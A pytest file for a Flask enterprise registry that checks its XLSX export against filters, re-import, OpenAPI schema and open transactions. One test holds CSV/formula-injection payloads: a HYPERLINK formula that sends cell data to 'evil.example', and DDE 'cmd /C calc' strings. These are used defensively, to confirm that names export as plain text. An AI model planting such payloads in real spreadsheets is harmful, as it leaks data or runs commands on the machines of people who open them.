"""XLSX export of a filtered enterprise list: the same rows the list filters, re-importable."""

from __future__ import annotations

import csv
import gc
import io
import time
import uuid
from typing import Any

from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from registry_testkit import new_uscc
from sqlalchemy import text

from registry.adapters.files.columns import COLUMNS
from registry.adapters.files.export_workbook import LIST_TITLE
from registry.adapters.files.import_template import SHEET_TITLE

HEADERS = {"X-Actor": "curator:li"}
GOOD = {c.key: c.example for c in COLUMNS}


def _import(client: FlaskClient, rows: list[dict[str, Any]]) -> dict[str, Any]:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([c.header for c in COLUMNS])
    writer.writerows([[r.get(c.key, "") for c in COLUMNS] for r in rows])
    return _upload(client, out.getvalue().encode(), "firms.csv")


def _upload(client: FlaskClient, data: bytes, name: str) -> dict[str, Any]:
    response = client.post("/api/v1/imports", headers=HEADERS, content_type="multipart/form-data",
                           data={"file": (io.BytesIO(data), name)})
    assert response.status_code == 202, response.json
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        job = client.get(response.headers["Location"]).json
        if job["status"] in ("succeeded", "validated", "failed"):
            return job  # type: ignore[no-any-return]
        time.sleep(0.05)
    raise AssertionError("import job did not finish")


def test_export_holds_exactly_the_filtered_rows_and_reimports_unchanged(
    client: FlaskClient,
) -> None:
    token = uuid.uuid4().hex[:8]
    codes = [new_uscc() for _ in range(3)]
    rows = [{**GOOD, "uscc": code, "name": f"聊城{token}第{i}有限公司", "year": str(year),
             "industry_code": "C2641" if i == 0 else "C3451"}
            for i, code in enumerate(codes) for year in (2024, 2025)]
    assert _import(client, rows)["status"] == "succeeded"

    everything = client.get(f"/api/v1/exports/enterprises.xlsx?q={token}")
    assert everything.status_code == 200
    assert everything.headers["X-Total-Count"] == "3"
    book = load_workbook(io.BytesIO(everything.data), read_only=True)
    listed = [r[0] for r in book[LIST_TITLE].iter_rows(min_row=2, values_only=True)]
    assert sorted(listed) == sorted(codes)
    figures = list(book[SHEET_TITLE].iter_rows(min_row=2, values_only=True))
    assert len(figures) == 6

    paints = client.get(f"/api/v1/exports/enterprises.xlsx?q={token}&industry=C26")
    assert paints.headers["X-Total-Count"] == "1"

    again = _upload(client, everything.data, "export.xlsx")
    assert (again["status"], again["created"], again["updated"]) == ("succeeded", 0, 0), again


def test_export_refuses_bad_filter_values_with_the_error_shape(client: FlaskClient) -> None:
    response = client.get("/api/v1/exports/enterprises.xlsx?pool=moon_base")
    assert response.status_code == 422
    assert "pool" in response.json["error"]["fields"]


FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def test_export_writes_formula_like_names_as_text_and_numbers_as_numbers(
    client: FlaskClient,
) -> None:
    token = uuid.uuid4().hex[:8]
    codes = [new_uscc() for _ in FORMULA_NAMES]
    rows = [{**GOOD, "uscc": code, "name": f"{name}{token}", "year": "2025",
             "net_profit": "-4000000"}
            for code, name in zip(codes, FORMULA_NAMES, strict=True)]
    assert _import(client, rows)["status"] == "succeeded"

    exported = client.get(f"/api/v1/exports/enterprises.xlsx?q={token}")
    assert exported.headers["X-Total-Count"] == str(len(FORMULA_NAMES))
    book = load_workbook(io.BytesIO(exported.data))  # not read-only: cell types are visible
    names = [row[1] for row in book[LIST_TITLE].iter_rows(min_row=2)]
    assert sorted(c.value for c in names) == sorted(f"{n}{token}" for n in FORMULA_NAMES)
    assert {c.data_type for c in names} == {"s"}
    name_at = [c.header for c in COLUMNS].index("企业名称 / Name")
    profit_at = [c.key for c in COLUMNS].index("net_profit")
    for row in book[SHEET_TITLE].iter_rows(min_row=2):
        assert row[name_at].data_type == "s" and row[name_at].value.endswith(token)
        assert (row[profit_at].value, row[profit_at].data_type) == (-4000000, "n")

    again = _upload(client, exported.data, "export.xlsx")
    assert (again["status"], again["created"], again["updated"]) == ("succeeded", 0, 0), again


def test_openapi_describes_the_downloads_as_files(client: FlaskClient) -> None:
    """A generated client must get the file's bytes, not an empty answer, for each download."""
    paths = client.get("/api/v1/openapi.json").json["paths"]
    downloads = {"/api/v1/exports/enterprises.xlsx": "spreadsheetml.sheet",
                 "/api/v1/imports/template.xlsx": "spreadsheetml.sheet",
                 "/api/v1/imports/template.csv": "text/csv"}
    for path, media in downloads.items():
        content = paths[path]["get"]["responses"]["200"]["content"]
        (kind,) = [k for k in content if k.endswith(media)]
        assert content[kind]["schema"] == {"type": "string", "format": "binary"}, path


def test_a_year_exports_only_that_fiscal_years_figures(client: FlaskClient) -> None:
    token = uuid.uuid4().hex[:8]
    codes = [new_uscc() for _ in range(2)]
    rows = [{**GOOD, "uscc": code, "name": f"聊城{token}年度{i}有限公司", "year": str(year),
             "employees": str(year - 1900)}
            for i, code in enumerate(codes) for year in (2023, 2024, 2025)]
    assert _import(client, rows)["status"] == "succeeded"

    exported = client.get(f"/api/v1/exports/enterprises.xlsx?q={token}&year=2024")
    assert exported.status_code == 200 and exported.headers["X-Total-Count"] == "2"
    book = load_workbook(io.BytesIO(exported.data), read_only=True)
    year_at = [c.key for c in COLUMNS].index("year")
    figures = list(book[SHEET_TITLE].iter_rows(min_row=2, values_only=True))
    assert len(figures) == 2 and {str(r[year_at]) for r in figures} == {"2024"}
    listed = list(book[LIST_TITLE].iter_rows(min_row=2, values_only=True))
    assert {(r[10], r[11]) for r in listed} == {(2024, 124)}  # the list shows 2024, not 2025

    refused = client.get("/api/v1/exports/enterprises.xlsx?year=1066")
    assert refused.status_code == 422 and "year" in refused.json["error"]["fields"]


def test_a_finished_export_leaves_no_transaction_open(
    client: FlaskClient, app: Flask, is_postgres: bool
) -> None:
    """Flask closes the request's session before a streamed body runs; the body reads with a
    session of its own and ends it, so no connection stays "idle in transaction" until the
    garbage collector happens by (it held the table lock another job waited for)."""
    if not is_postgres:
        return  # SQLite has no server to hold a transaction open on
    gc.disable()
    try:
        response = client.get("/api/v1/exports/enterprises.xlsx", headers=HEADERS)
        assert response.status_code == 200 and response.data[:2] == b"PK"
        response.close()  # as gunicorn closes every response
        with app.extensions["registry.engine"].connect() as conn:
            assert conn.execute(text(
                "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database()"
                " AND state LIKE 'idle in transaction%'")).scalar_one() == 0
    finally:
        gc.enable()
